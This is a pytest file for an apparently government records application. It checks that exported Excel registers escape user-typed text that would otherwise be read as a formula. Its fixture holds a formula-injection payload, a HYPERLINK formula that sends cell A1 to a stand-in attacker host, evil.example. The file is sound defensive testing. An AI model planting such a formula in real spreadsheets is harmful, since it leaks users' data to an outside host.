"""Security finding #9, point 7: typed text never becomes a spreadsheet formula in the dossier
tracking register and the document registers (one shared helper, core.exports.neutralise)."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from chinhquyen.core.exports import neutralise

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def _cells(content: bytes) -> list[object]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell.value for row in sheet.iter_rows() for cell in row]


def test_neutralise() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert neutralise(text) == "'" + text
    assert neutralise("Nguyễn Văn An") == "Nguyễn Văn An" and neutralise(5) == 5


def test_dossier_tracking_register_neutralises_typed_text() -> None:
    from chinhquyen.dossiers.selectors import RegisterRow
    from chinhquyen.dossiers.views import _register_workbook

    now = dt.datetime(2026, 3, 2, 8, tzinfo=dt.UTC)
    row = RegisterRow(1, "X-1", "Thủ tục", 1, EVIL, "+84 phố", "0912", "Sở", now, now,
                      None, None, None, None, "Đã tiếp nhận", "", "@note")  # fmt: skip
    cells = _cells(_register_workbook([row]))
    assert "'" + EVIL in cells and "'+84 phố" in cells and "'@note" in cells
    assert EVIL not in cells


@pytest.mark.parametrize("kind", ["incoming", "outgoing"])
def test_document_registers_neutralise_typed_text(
    kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from chinhquyen.documents import exports
    from chinhquyen.orgs.models import Organisation

    monkeypatch.setattr(exports, "register_table", lambda k, rows: (("Trích yếu",), [[EVIL]]))
    content = exports.register_xlsx(kind, Organisation(name="Sở"), 2026, [])
    cells = _cells(content)
    assert "'" + EVIL in cells and EVIL not in cells
